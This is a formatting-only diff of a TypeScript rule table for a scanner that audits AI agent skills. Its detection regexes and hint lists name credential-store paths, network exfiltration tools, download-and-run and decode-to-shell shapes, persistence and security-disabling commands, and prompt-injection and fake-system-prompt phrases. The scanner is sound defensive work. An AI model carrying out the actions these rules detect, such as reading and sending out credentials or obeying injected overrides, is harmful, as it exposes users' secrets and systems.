@@ -1,5 +1,14 @@
 import type { FindingLevel } from "./types.js";
-import { hostOf, isChatWebhook, isCollectorHost, isKnownInstaller, isPublicIpv4, isTunnelHost, METADATA_HOST, URL_PATTERN } from "./hosts.js";
+import {
+  hostOf,
+  isChatWebhook,
+  isCollectorHost,
+  isKnownInstaller,
+  isPublicIpv4,
+  isTunnelHost,
+  METADATA_HOST,
+  URL_PATTERN,
+} from "./hosts.js";
 
 /** Which files a rule reads: instructions (Markdown and text), scripts and data (every other text file), or both. */
 export type RuleScope = "instructions" | "scripts" | "text";
@@ -50,7 +59,11 @@ const riskyHost = (host: string) => isPublicIpv4(host) || isTunnelHost(host) || 
 // A piped install from a raw IP or a tunnel is the campaign's own shape; from a vendor's documented installer it is
 // an ordinary (if unwise) install, kept visible at `review`.
 function refineRemoteRecipe(hit: string, line: string): Refined {
-  if (/\|\s*(?:python[0-9.]*|node|ruby|perl|pwsh|powershell)\b/i.test(hit) && /\|\s*(?:python[0-9.]*|node|ruby|perl|pwsh|powershell)\s+-(?:c|e|m|E|Command)\b/i.test(line)) return null;
+  if (
+    /\|\s*(?:python[0-9.]*|node|ruby|perl|pwsh|powershell)\b/i.test(hit) &&
+    /\|\s*(?:python[0-9.]*|node|ruby|perl|pwsh|powershell)\s+-(?:c|e|m|E|Command)\b/i.test(line)
+  )
+    return null;
   const hosts = hostsOn(line);
   if (hosts.some((h) => riskyHost(h.host))) return { code: "malicious.install_terminal_payload", level: "malicious" };
   if (hosts.length > 0 && hosts.every((h) => isKnownInstaller(h.url))) return { level: "review" };
@@ -60,9 +73,14 @@ function refineRemoteRecipe(hit: string, line: string): Refined {
 // No optional prefix (`~/`, `$HOME/`): a pattern that may start anywhere costs a try at every position.
 const CREDENTIAL_PATH = String.raw`\.ssh\/(?:id_\w+|authorized_keys|config|\*)|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\.aws\/(?:credentials|config)|\.kube\/config|\.docker\/config\.json|\.netrc\b|\.git-credentials|\.config\/gh\/hosts\.yml|\.npmrc\b|\.pypirc\b|\.config\/gcloud\/|\.azure\/|login\.keychain|Library\/Keychains|\bsecurity\s+(?:find-(?:generic|internet)-password|dump-keychain)|Login(?:\\)?\s?Data|Local(?:\\)?\s?State|(?:Chrome|Chromium|Brave|Edge|Firefox)[^\n]{0,80}\/Cookies\b|\bcookies\.sqlite\b|\blogins\.json\b|\bkey[34]\.db\b|\bwallet\.dat\b|\bkeystore\/|Exodus\/|Electrum\/|\bseed phrase\b|\bmnemonic\b|\/etc\/shadow\b`;
 export const CREDENTIAL = new RegExp(CREDENTIAL_PATH, "i");
-const READ_VERB = /\b(?:cat|cp|scp|rsync|tar|zip|base64|xxd|less|more|head|tail|type|get-content|gc|read|open|upload|send|copy|collect|extract|exfiltrat\w*|grab|dump|strings|sqlite3)\b/i;
-const SENDER = new RegExp(String.raw`\b(?:${FETCHERS}|nc|ncat|netcat|socat|scp|rsync|ftp|requests\.(?:post|put)|axios\.post|http\.request|urllib\.request|sendmail|mail)\b|fetch\s*\(`, "i");
-const ENV_DUMP = /\$\((?:env|printenv|set)\)|`(?:env|printenv)`|\b(?:env|printenv)\s*\||JSON\.stringify\(\s*process\.env\s*\)|json\.dumps\(\s*(?:dict\()?os\.environ|Get-ChildItem\s+env:/i;
+const READ_VERB =
+  /\b(?:cat|cp|scp|rsync|tar|zip|base64|xxd|less|more|head|tail|type|get-content|gc|read|open|upload|send|copy|collect|extract|exfiltrat\w*|grab|dump|strings|sqlite3)\b/i;
+const SENDER = new RegExp(
+  String.raw`\b(?:${FETCHERS}|nc|ncat|netcat|socat|scp|rsync|ftp|requests\.(?:post|put)|axios\.post|http\.request|urllib\.request|sendmail|mail)\b|fetch\s*\(`,
+  "i",
+);
+const ENV_DUMP =
+  /\$\((?:env|printenv|set)\)|`(?:env|printenv)`|\b(?:env|printenv)\s*\||JSON\.stringify\(\s*process\.env\s*\)|json\.dumps\(\s*(?:dict\()?os\.environ|Get-ChildItem\s+env:/i;
 
 export const PATTERN_RULES: readonly PatternRule[] = [
   {
@@ -89,7 +107,10 @@ export const PATTERN_RULES: readonly PatternRule[] = [
     fix: "remove it: an installer must be readable where it is run",
     scope: "text",
     patterns: [
-      new RegExp(String.raw`\b(?:base64\s+(?:-d|-D|--decode)|openssl\s+(?:base64|enc)\s+-d|xxd\s+-r(?:\s+-p)?|certutil\s+-decode)\b[^\n]{0,80}\|\s*(?:${SHELLS})\b`, "gi"),
+      new RegExp(
+        String.raw`\b(?:base64\s+(?:-d|-D|--decode)|openssl\s+(?:base64|enc)\s+-d|xxd\s+-r(?:\s+-p)?|certutil\s+-decode)\b[^\n]{0,80}\|\s*(?:${SHELLS})\b`,
+        "gi",
+      ),
       /\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-(?:e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}/gi,
       /\|\s*rev\s*\|\s*(?:ba|z)?sh\b/gi,
     ],
@@ -111,19 +132,45 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.download_and_execute",
-    hint: ["curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-", "chmod", "and run", "then run", "and execute", "then execute", "and launch", "then launch", "and open", "then open", "double-click"],
+    hint: [
+      "curl",
+      "wget",
+      "fetch",
+      "aria2c",
+      "iwr",
+      "irm",
+      "invoke-",
+      "chmod",
+      "and run",
+      "then run",
+      "and execute",
+      "then execute",
+      "and launch",
+      "then launch",
+      "and open",
+      "then open",
+      "double-click",
+    ],
     level: "warn",
     message: "downloads a program and runs it",
     fix: "ship the tool as a pinned package or a checksummed release the user installs, not a download-and-run step",
     scope: "text",
     patterns: [
-      new RegExp(String.raw`\b(?:${FETCHERS})\b[^\n]{0,200}(?:\s-o\s*|\s-O\s+|--output(?:=|\s+)|-OutFile\s+)\S+[^\n]{0,120}(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s+\+?[0-7x]+|\.\/|start-process|open\s|msiexec|hdiutil)`, "gi"),
+      new RegExp(
+        String.raw`\b(?:${FETCHERS})\b[^\n]{0,200}(?:\s-o\s*|\s-O\s+|--output(?:=|\s+)|-OutFile\s+)\S+[^\n]{0,120}(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s+\+?[0-7x]+|\.\/|start-process|open\s|msiexec|hdiutil)`,
+        "gi",
+      ),
       /\bchmod\s+(?:\+x|[0-7]?[0-7][0-7][1357])\s+\S+\s*(?:&&|;)\s*(?:sudo\s+)?\.\/\S+/gi,
       /\b(?:download|get|grab|fetch)\b(?:[^\n.]|\.(?=\S)){0,160}\b(?:and|then)\s+(?:run|execute|launch|open|double-click)\b[^\n.]{0,60}/gi,
     ],
     refine: (hit, line) => {
       // Prose "download … and run" names a program file or a risky host before it is more than worth a look.
-      if (/^(?:download|get|grab|fetch)\b/i.test(hit) && !/\.(?:exe|msi|dmg|pkg|appimage|bin|zip|7z|rar|sh|ps1|bat|cmd|scr|jar)\b/i.test(line) && !hostsOn(line).some((h) => riskyHost(h.host))) return { level: "review" };
+      if (
+        /^(?:download|get|grab|fetch)\b/i.test(hit) &&
+        !/\.(?:exe|msi|dmg|pkg|appimage|bin|zip|7z|rar|sh|ps1|bat|cmd|scr|jar)\b/i.test(line) &&
+        !hostsOn(line).some((h) => riskyHost(h.host))
+      )
+        return { level: "review" };
       return {};
     },
   },
@@ -134,9 +181,12 @@ export const PATTERN_RULES: readonly PatternRule[] = [
     message: "asks the user to paste a command into a terminal",
     fix: "describe what the command does and let the agent run it through its own (approved) tools",
     scope: "instructions",
-    patterns: [/\b(?:copy\s+and\s+paste|paste|run|execute|type|enter)\b[^\n.]{0,60}\b(?:in(?:to)?|on)\s+(?:your|the|a)\s+(?:terminal|shell|command\s+line|console|powershell|cmd)\b[^\n]{0,80}/gi],
+    patterns: [
+      /\b(?:copy\s+and\s+paste|paste|run|execute|type|enter)\b[^\n.]{0,60}\b(?:in(?:to)?|on)\s+(?:your|the|a)\s+(?:terminal|shell|command\s+line|console|powershell|cmd)\b[^\n]{0,80}/gi,
+    ],
     // The campaign's framing: a "prerequisite" the user must run before the skill works.
-    refine: (_hit, line) => (/\b(?:first|before\s+(?:using|installing|continuing|you)|prerequisites?)\b/i.test(line) ? { level: "warn" } : {}),
+    refine: (_hit, line) =>
+      /\b(?:first|before\s+(?:using|installing|continuing|you)|prerequisites?)\b/i.test(line) ? { level: "warn" } : {},
   },
   {
     code: "suspicious.unpinned_package_runner",
@@ -160,7 +210,44 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.credential_store_access",
-    hint: [".ssh/", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", ".aws/", ".kube/", ".docker/config", ".netrc", ".git-credentials", "gh/hosts", ".npmrc", ".pypirc", "gcloud/", ".azure/", "keychain", "find-generic", "find-internet", "login data", "logindata", "login\\ data", "local state", "localstate", "local\\ state", "/cookies", "cookies.sqlite", "logins.json", "key3.db", "key4.db", "wallet.dat", "keystore/", "exodus/", "electrum/", "seed phrase", "mnemonic", "/etc/shadow"],
+    hint: [
+      ".ssh/",
+      "id_rsa",
+      "id_dsa",
+      "id_ecdsa",
+      "id_ed25519",
+      ".aws/",
+      ".kube/",
+      ".docker/config",
+      ".netrc",
+      ".git-credentials",
+      "gh/hosts",
+      ".npmrc",
+      ".pypirc",
+      "gcloud/",
+      ".azure/",
+      "keychain",
+      "find-generic",
+      "find-internet",
+      "login data",
+      "logindata",
+      "login\\ data",
+      "local state",
+      "localstate",
+      "local\\ state",
+      "/cookies",
+      "cookies.sqlite",
+      "logins.json",
+      "key3.db",
+      "key4.db",
+      "wallet.dat",
+      "keystore/",
+      "exodus/",
+      "electrum/",
+      "seed phrase",
+      "mnemonic",
+      "/etc/shadow",
+    ],
     level: "review",
     message: "refers to a credential store (SSH keys, cloud credentials, keychains, browser profiles, wallets)",
     fix: "do not read credential stores; ask the user for the one value needed, through the agent's secret mechanism",
@@ -195,13 +282,38 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "malicious.credential_exfiltration",
-    hint: ["curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-", "nc ", "ncat", "netcat", "socat", "scp", "rsync", "ftp", "requests.", "axios.", "http.request", "urllib", "mail"],
+    hint: [
+      "curl",
+      "wget",
+      "fetch",
+      "aria2c",
+      "iwr",
+      "irm",
+      "invoke-",
+      "nc ",
+      "ncat",
+      "netcat",
+      "socat",
+      "scp",
+      "rsync",
+      "ftp",
+      "requests.",
+      "axios.",
+      "http.request",
+      "urllib",
+      "mail",
+    ],
     level: "malicious",
     message: "sends credentials or the environment to a network destination",
     fix: "remove it",
     scope: "text",
     patterns: [new RegExp(SENDER.source, "gi")],
-    refine: (_hit, line) => (SENDER.test(line) && (CREDENTIAL.test(line) || ENV_DUMP.test(line)) && (/\S+@\S|\$\(|`|\|/.test(line) || READ_VERB.test(line)) ? {} : null),
+    refine: (_hit, line) =>
+      SENDER.test(line) &&
+      (CREDENTIAL.test(line) || ENV_DUMP.test(line)) &&
+      (/\S+@\S|\$\(|`|\|/.test(line) || READ_VERB.test(line))
+        ? {}
+        : null,
     keepInCaution: true,
   },
   {
@@ -211,7 +323,10 @@ export const PATTERN_RULES: readonly PatternRule[] = [
     message: "names a request bin, paste site, file drop or out-of-band collector",
     fix: "send data only to the service the skill is about, and say so in the description",
     scope: "text",
-    patterns: [URL_PATTERN, /\b(?:oast\.(?:fun|pro|live|site|online|me)|interact\.sh|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io)\b/gi],
+    patterns: [
+      URL_PATTERN,
+      /\b(?:oast\.(?:fun|pro|live|site|online|me)|interact\.sh|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io)\b/gi,
+    ],
     refine: (hit) => {
       if (!/:\/\//.test(hit)) return {};
       if (isCollectorHost(hostOf(hit))) return {};
@@ -220,12 +335,29 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.tunnel_endpoint",
-    hint: ["ngrok", "trycloudflare", "loca.lt", "localtunnel", "serveo", "localhost.run", "lhr.life", "pinggy", "bore.pub", "tunnelmole", "playit.gg", "telebit"],
+    hint: [
+      "ngrok",
+      "trycloudflare",
+      "loca.lt",
+      "localtunnel",
+      "serveo",
+      "localhost.run",
+      "lhr.life",
+      "pinggy",
+      "bore.pub",
+      "tunnelmole",
+      "playit.gg",
+      "telebit",
+    ],
     level: "warn",
-    message: "points at a tunnel service address (ngrok, trycloudflare, localtunnel…): an unvetted host that changes hands",
+    message:
+      "points at a tunnel service address (ngrok, trycloudflare, localtunnel…): an unvetted host that changes hands",
     fix: "use the service's stable, documented address",
     scope: "text",
-    patterns: [URL_PATTERN, /\b(?:ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|serveo\.net|lhr\.life|bore\.pub)\b/gi],
+    patterns: [
+      URL_PATTERN,
+      /\b(?:ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|serveo\.net|lhr\.life|bore\.pub)\b/gi,
+    ],
     refine: (hit) => (isTunnelHost(/:\/\//.test(hit) ? hostOf(hit) : hit.toLowerCase()) ? {} : null),
   },
   {
@@ -260,11 +392,24 @@ export const PATTERN_RULES: readonly PatternRule[] = [
     fix: "remove it",
     scope: "text",
     // The queried name itself holds a substitution: `nslookup $(whoami).x.example`, `dig ${TOKEN}.x.example`.
-    patterns: [/\b(?:dig|nslookup|host|ping|drill)\s+(?:-\S+\s+)*(?:[\w.-]*(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`|\$\{?[A-Za-z_]\w*\}?))+[\w.-]*\.[a-z][\w.-]*/g],
+    patterns: [
+      /\b(?:dig|nslookup|host|ping|drill)\s+(?:-\S+\s+)*(?:[\w.-]*(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`|\$\{?[A-Za-z_]\w*\}?))+[\w.-]*\.[a-z][\w.-]*/g,
+    ],
   },
   {
     code: "suspicious.prompt_injection_instructions",
-    hint: ["ignore", "disregard", "forget", "override", "bypass", "no longer", "dan mode", "developer mode", "jailbreak", "other skill"],
+    hint: [
+      "ignore",
+      "disregard",
+      "forget",
+      "override",
+      "bypass",
+      "no longer",
+      "dan mode",
+      "developer mode",
+      "jailbreak",
+      "other skill",
+    ],
     level: "warn",
     message: "tells the agent to drop its instructions or take on a new identity (prompt injection)",
     fix: "state what the skill does; never address the agent's other instructions",
@@ -291,8 +436,24 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.fake_system_prompt",
-    hint: ["<|", "system:", "system]", "system**", "system prompt", "system override", "system message", "admin", "developer message", "system-reminder", "system_prompt", "system-prompt", "begin system", "begin developer"],
-    refine: (hit) => (/^<\/?(?:system-reminder|system_prompt|system-prompt)>$/i.test(hit.trim()) ? { level: "review" } : {}),
+    hint: [
+      "<|",
+      "system:",
+      "system]",
+      "system**",
+      "system prompt",
+      "system override",
+      "system message",
+      "admin",
+      "developer message",
+      "system-reminder",
+      "system_prompt",
+      "system-prompt",
+      "begin system",
+      "begin developer",
+    ],
+    refine: (hit) =>
+      /^<\/?(?:system-reminder|system_prompt|system-prompt)>$/i.test(hit.trim()) ? { level: "review" } : {},
     level: "warn",
     message: "imitates a system or developer message to gain authority",
     fix: "remove role markers; a skill is user-level content",
@@ -306,7 +467,21 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.agent_config_tampering",
-    hint: [".claude/", ".codex/", ".cursor/", ".gemini/", ".agents/", ".openclaw/", ".clawdbot/", ".windsurf/", "other skill", "installed skill", "claude.md", "agents.md", "gemini.md"],
+    hint: [
+      ".claude/",
+      ".codex/",
+      ".cursor/",
+      ".gemini/",
+      ".agents/",
+      ".openclaw/",
+      ".clawdbot/",
+      ".windsurf/",
+      "other skill",
+      "installed skill",
+      "claude.md",
+      "agents.md",
+      "gemini.md",
+    ],
     refine: (hit) => (/(?:CLAUDE|AGENTS|GEMINI)\.md$/i.test(hit) ? { level: "review" } : {}),
     level: "warn",
     message: "changes other skills or the agent's own settings, hooks or memory files",
@@ -351,7 +526,22 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.persistence_mechanism",
-    hint: ["crontab", "@reboot", "/etc/cron", "/var/spool/cron", "launchagents", "launchdaemons", "launchctl", "currentversion", "schtasks", "start menu", "systemctl", "systemd", "git/hooks", "hookspath"],
+    hint: [
+      "crontab",
+      "@reboot",
+      "/etc/cron",
+      "/var/spool/cron",
+      "launchagents",
+      "launchdaemons",
+      "launchctl",
+      "currentversion",
+      "schtasks",
+      "start menu",
+      "systemctl",
+      "systemd",
+      "git/hooks",
+      "hookspath",
+    ],
     level: "warn",
     message: "installs something that runs again later on its own (cron, launch agents, services, Run keys)",
     fix: "let the user schedule recurring work; a skill runs when it is invoked",
@@ -366,7 +556,11 @@ export const PATTERN_RULES: readonly PatternRule[] = [
     // Services and git hooks have honest uses (a deploy skill, a pre-commit skill): worth a look, not an alarm.
     refine: (hit, line) => {
       if (/systemctl|systemd|\.git\/hooks|hooksPath/i.test(hit)) return { level: "review" };
-      if (/LaunchAgents|LaunchDaemons|CurrentVersion|Startup/i.test(hit) && !/\b(?:cp|mv|ln|tee|install|reg\s+add|New-ItemProperty|Set-ItemProperty|launchctl|copy|write)\b|>/i.test(line)) return { level: "review" };
+      if (
+        /LaunchAgents|LaunchDaemons|CurrentVersion|Startup/i.test(hit) &&
+        !/\b(?:cp|mv|ln|tee|install|reg\s+add|New-ItemProperty|Set-ItemProperty|launchctl|copy|write)\b|>/i.test(line)
+      )
+        return { level: "review" };
       return {};
     },
   },
@@ -384,8 +578,24 @@ export const PATTERN_RULES: readonly PatternRule[] = [
   },
   {
     code: "suspicious.security_disable",
-    hint: ["xattr", "spctl", "csrutil", "setenforce", "ufw", "netsh", "mppreference", "antivirus", "anti-virus", "defender", "firewall", "gatekeeper", "edr", "xprotect"],
-    refine: (hit) => (/^xattr\b/i.test(hit) && /com\.apple\.quarantine/.test(hit) && !/\s-\w*c/.test(hit) ? { level: "review" } : {}),
+    hint: [
+      "xattr",
+      "spctl",
+      "csrutil",
+      "setenforce",
+      "ufw",
+      "netsh",
+      "mppreference",
+      "antivirus",
+      "anti-virus",
+      "defender",
+      "firewall",
+      "gatekeeper",
+      "edr",
+      "xprotect",
+    ],
+    refine: (hit) =>
+      /^xattr\b/i.test(hit) && /com\.apple\.quarantine/.test(hit) && !/\s-\w*c/.test(hit) ? { level: "review" } : {},
     level: "warn",
     message: "turns off an operating-system protection (quarantine, Gatekeeper, antivirus, SELinux, firewall)",
     fix: "remove it; a legitimate tool is signed or installed through the system's package manager",
@@ -415,18 +625,89 @@ export const PATTERN_RULES: readonly PatternRule[] = [
 
 /** The rules that are code, not a pattern table, with their defaults (the audit functions use these texts). */
 export const OTHER_RULES = {
-  encodedPayload: { code: "malicious.install_terminal_payload", level: "malicious", message: "an encoded blob decodes to a download-and-run command", fix: "remove it: an installer must be readable where it is run" },
-  encodedCommand: { code: "suspicious.encoded_command", level: "warn", message: "an encoded blob decodes to a shell command", fix: "write the command in clear text so the user can read it" },
-  hiddenTags: { code: "malicious.hidden_unicode_tags", level: "malicious", message: "holds invisible Unicode tag characters (U+E0000–E007F), which smuggle text a model reads and a person does not", fix: "remove the tag characters" },
-  invisible: { code: "suspicious.invisible_characters", level: "warn", message: "holds zero-width or bidirectional control characters that hide or reorder text", fix: "remove them (a right-to-left language needs none of the override or isolate controls)" },
-  hiddenHtml: { code: "suspicious.hidden_html_instructions", level: "warn", message: "an HTML comment or hidden element holds commands or instructions the rendered page does not show", fix: "put instructions in visible text, or remove them" },
-  minified: { code: "suspicious.minified_script", level: "review", message: "a script is minified or packed, so it cannot be reviewed", fix: "ship the readable source (a build step may minify at install)" },
-  executable: { code: "suspicious.bundled_executable", level: "warn", message: "bundles a native executable or library (ELF, PE, Mach-O)", fix: "ship source or a pinned package; binaries cannot be reviewed" },
-  archive: { code: "suspicious.bundled_archive", level: "review", message: "bundles an archive whose contents are not scanned", fix: "ship the files unpacked so they can be reviewed" },
-  encryptedZip: { code: "suspicious.encrypted_archive", level: "warn", message: "bundles a password-protected zip (its contents hide from scanners)", fix: "ship the files unpacked" },
-  allowedTools: { code: "suspicious.allowed_tools_overbroad", level: "review", message: "allowed-tools grants more than the instructions use", fix: "list only the tools the instructions need, narrowed (Bash(git:*) rather than Bash)" },
-  triggers: { code: "suspicious.trigger_hijacking", level: "warn", message: "the description claims to apply to everything, which hijacks the agent's choice of skill", fix: "describe the specific tasks the skill is for" },
-  modelConcern: { code: "audit.model_concern", level: "review", message: "a model's second opinion flags this", fix: "read the flagged lines yourself: the model's opinion is advice, never a verdict" },
-  undeclaredDestination: { code: "suspicious.undeclared_destination", level: "review", message: "names a host its least-privilege declaration does not list (a run would be refused there)", fix: "add the host to metadata skillport.network, or remove the reference" },
-  notScanned: { code: "audit.file_not_scanned", level: "review", message: "a file was not scanned (over a size or count limit)", fix: "raise --max-file-bytes/--max-files, or keep skill files small" },
+  encodedPayload: {
+    code: "malicious.install_terminal_payload",
+    level: "malicious",
+    message: "an encoded blob decodes to a download-and-run command",
+    fix: "remove it: an installer must be readable where it is run",
+  },
+  encodedCommand: {
+    code: "suspicious.encoded_command",
+    level: "warn",
+    message: "an encoded blob decodes to a shell command",
+    fix: "write the command in clear text so the user can read it",
+  },
+  hiddenTags: {
+    code: "malicious.hidden_unicode_tags",
+    level: "malicious",
+    message:
+      "holds invisible Unicode tag characters (U+E0000–E007F), which smuggle text a model reads and a person does not",
+    fix: "remove the tag characters",
+  },
+  invisible: {
+    code: "suspicious.invisible_characters",
+    level: "warn",
+    message: "holds zero-width or bidirectional control characters that hide or reorder text",
+    fix: "remove them (a right-to-left language needs none of the override or isolate controls)",
+  },
+  hiddenHtml: {
+    code: "suspicious.hidden_html_instructions",
+    level: "warn",
+    message: "an HTML comment or hidden element holds commands or instructions the rendered page does not show",
+    fix: "put instructions in visible text, or remove them",
+  },
+  minified: {
+    code: "suspicious.minified_script",
+    level: "review",
+    message: "a script is minified or packed, so it cannot be reviewed",
+    fix: "ship the readable source (a build step may minify at install)",
+  },
+  executable: {
+    code: "suspicious.bundled_executable",
+    level: "warn",
+    message: "bundles a native executable or library (ELF, PE, Mach-O)",
+    fix: "ship source or a pinned package; binaries cannot be reviewed",
+  },
+  archive: {
+    code: "suspicious.bundled_archive",
+    level: "review",
+    message: "bundles an archive whose contents are not scanned",
+    fix: "ship the files unpacked so they can be reviewed",
+  },
+  encryptedZip: {
+    code: "suspicious.encrypted_archive",
+    level: "warn",
+    message: "bundles a password-protected zip (its contents hide from scanners)",
+    fix: "ship the files unpacked",
+  },
+  allowedTools: {
+    code: "suspicious.allowed_tools_overbroad",
+    level: "review",
+    message: "allowed-tools grants more than the instructions use",
+    fix: "list only the tools the instructions need, narrowed (Bash(git:*) rather than Bash)",
+  },
+  triggers: {
+    code: "suspicious.trigger_hijacking",
+    level: "warn",
+    message: "the description claims to apply to everything, which hijacks the agent's choice of skill",
+    fix: "describe the specific tasks the skill is for",
+  },
+  modelConcern: {
+    code: "audit.model_concern",
+    level: "review",
+    message: "a model's second opinion flags this",
+    fix: "read the flagged lines yourself: the model's opinion is advice, never a verdict",
+  },
+  undeclaredDestination: {
+    code: "suspicious.undeclared_destination",
+    level: "review",
+    message: "names a host its least-privilege declaration does not list (a run would be refused there)",
+    fix: "add the host to metadata skillport.network, or remove the reference",
+  },
+  notScanned: {
+    code: "audit.file_not_scanned",
+    level: "review",
+    message: "a file was not scanned (over a size or count limit)",
+    fix: "raise --max-file-bytes/--max-files, or keep skill files small",
+  },
 } as const satisfies Record<string, RuleInfo>;
